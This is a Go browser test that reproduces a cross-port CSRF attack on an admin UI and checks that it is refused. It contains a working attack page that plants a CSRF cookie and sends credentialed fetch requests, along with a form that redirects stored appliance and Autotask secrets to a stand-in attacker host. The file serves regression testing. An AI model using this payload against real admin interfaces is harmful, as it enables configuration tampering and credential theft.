package adminui

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"switchboard/engine/auth"
	"switchboard/engine/beyondtrust/bttest"
	"switchboard/engine/service"
	"switchboard/plugins/autotask"
	"switchboard/plugins/autotask/autotasktest"
)

// lockedBuffer is a log sink the server's goroutines and the test share.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// attacker is a site on another port of 127.0.0.1: same site as the admin
// listener for the browser (cookies are not kept apart by port), another
// origin. It serves the attack page and records every request Switchboard
// itself makes to it, as the host an exfiltration would end at.
type attacker struct {
	srv  *httptest.Server
	mu   sync.Mutex
	seen []string // what reached it other than the page
	page string
}

func newAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{}
	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			// Plant a CSRF cookie of our choosing for 127.0.0.1: the
			// double-submit check compared the cookie with the form.
			http.SetCookie(w, &http.Cookie{Name: auth.CSRFCookie, Value: "planted-by-the-attacker", Path: "/", SameSite: http.SameSiteLaxMode})
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, a.page)
			return
		}
		if r.URL.Path == "/favicon.ico" {
			http.NotFound(w, r)
			return
		}
		body, _ := io.ReadAll(r.Body)
		var got strings.Builder
		fmt.Fprintf(&got, "%s %s\n", r.Method, r.URL)
		if u, p, ok := r.BasicAuth(); ok {
			fmt.Fprintf(&got, "basic %s:%s\n", u, p)
		}
		for k, v := range r.Header {
			fmt.Fprintf(&got, "%s: %s\n", k, strings.Join(v, ","))
		}
		got.Write(body)
		if q, err := url.ParseQuery(string(body)); err == nil {
			fmt.Fprintf(&got, "\n%v", q)
		}
		a.mu.Lock()
		a.seen = append(a.seen, got.String())
		a.mu.Unlock()
		http.Error(w, "nothing here", http.StatusNotFound)
	}))
	t.Cleanup(a.srv.Close)
	return a
}

func (a *attacker) requests() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.seen...)
}

// attackPage posts each form to the admin listener from script, with the
// admin's cookies (fetch with credentials; no-cors needs no preflight), and
// says "done" once every answer came back.
func attackPage(admin string, posts []attackPost) string {
	js, _ := json.Marshal(posts)
	return `<!doctype html><html><body><p>Cute cats</p><script>
const admin = ` + fmt.Sprintf("%q", admin) + `;
const posts = ` + string(js) + `;
(async () => {
  for (const p of posts) {
    try {
      await fetch(admin + p.path, {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams(p.form)});
    } catch (e) {}
  }
  const done = document.createElement("p");
  done.id = "done";
  done.textContent = "done";
  document.body.appendChild(done);
})();
</script></body></html>`
}

type attackPost struct {
	Path string            `json:"path"`
	Form map[string]string `json:"form"`
}

// TestBrowserCrossPortAttack is the attack of issue 11 in a real browser: a
// page on another port of 127.0.0.1, visited by a signed-in admin, tries to
// disable a configuration and to run Test with the appliance and Autotask
// hosts pointed at itself, so that the stored secrets would be sent there.
// Both must be refused, and no secret may reach the attacker.
func TestBrowserCrossPortAttack(t *testing.T) {
	logs := &lockedBuffer{}
	b := newBrowserLogging(t, slog.New(slog.NewTextHandler(logs, nil)))
	ctx := t.Context()
	b.signInThroughSetup()

	app, err := json.Marshal(map[string]any{
		"name": "Contoso", "appliance_id": "Default", "host": b.app.Host(),
		"client_id": bttest.DefaultClientID, "client_secret": bttest.DefaultClientSecret,
		"allow_invalid_certificates": true, "outbound_events": autotask.Events,
	})
	if err != nil {
		t.Fatal(err)
	}
	settings, err := json.Marshal(map[string]any{
		"username": autotasktest.DefaultUsername, "password": autotasktest.DefaultSecret,
		"integration_code": autotasktest.DefaultIntegrationCode, "auto_ticket_session_types": []string{"issue_submission"},
	})
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := b.srv.Service.CreateConfig(ctx, "test", service.ConfigInput{Plugin: autotask.ID, Appliance: app, Settings: settings})
	if err != nil {
		t.Fatal(err)
	}

	evil := newAttacker(t)
	evilHost := strings.TrimPrefix(evil.srv.URL, "http://")
	planted := map[string]string{auth.CSRFField: "planted-by-the-attacker"}
	exfil := map[string]string{
		auth.CSRFField:                         "planted-by-the-attacker",
		configIDInput:                          fmt.Sprint(cfg.ID),
		"appliance.name":                       "Contoso",
		"appliance.appliance_id":               "Default",
		"appliance.host":                       evilHost,
		"appliance.client_id":                  bttest.DefaultClientID,
		"appliance.use_non_tls":                "on",
		"appliance.locale":                     "en-us",
		"appliance.product":                    "rs",
		"appliance.polling_interval":           "60",
		"appliance.polling_backfill_hours":     "0",
		"appliance.retry_attempt_limit":        "5",
		"settings.services_url":                evil.srv.URL + "/ATServicesRest/",
		"settings.username":                    autotasktest.DefaultUsername,
		"settings.note_type":                   "1",
		"settings.report_time_zone":            "UTC",
		"settings.time_entry_defaults":         "{}",
		"settings.ticket_defaults":             "{}",
		"settings.auto_ticket_session_types":   "issue_submission",
		"appliance.allow_invalid_certificates": "on",
	}
	evil.page = attackPage(b.srv.AdminURL(), []attackPost{
		{Path: fmt.Sprintf("/configs/%d/disable", cfg.ID), Form: planted},
		{Path: "/plugins/autotask/test", Form: exfil},
		{Path: fmt.Sprintf("/api/v1/configurations/%d/disable", cfg.ID), Form: planted},
	})
	b.do("visit the attacker's page", chromedp.Navigate(evil.srv.URL+"/"), chromedp.WaitVisible(chromedp.CSS("#done")))

	got, err := b.srv.Service.Config(ctx, cfg.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Disabled {
		t.Error("a page on another port disabled the configuration")
	}
	for _, req := range evil.requests() {
		for _, s := range b.secret {
			if strings.Contains(req, s) {
				t.Errorf("a stored secret reached the attacker's host:\n%s", req)
			}
		}
		t.Logf("Switchboard contacted the attacker: %.200s", req)
	}
	if n := strings.Count(logs.String(), "refused a cross-site request"); n == 0 {
		t.Errorf("no cross-site refusal was logged; the attack's requests may not have arrived:\n%s", logs)
	}
}

// signInThroughSetup creates the admin account through the one-time setup
// link, leaving the browser signed in.
func (b *browser) signInThroughSetup() {
	b.t.Helper()
	if b.srv.SetupURL == "" {
		b.t.Fatal("a fresh server printed no setup link")
	}
	b.open(b.srv.SetupURL, "#password")
	b.doFlash("create the admin account", "you are signed in",
		chromedp.SetValue(chromedp.CSS("#password"), adminPassword),
		chromedp.SetValue(chromedp.CSS("#confirm"), adminPassword),
		chromedp.Click(chromedp.CSS("button[type=submit]")),
	)
}
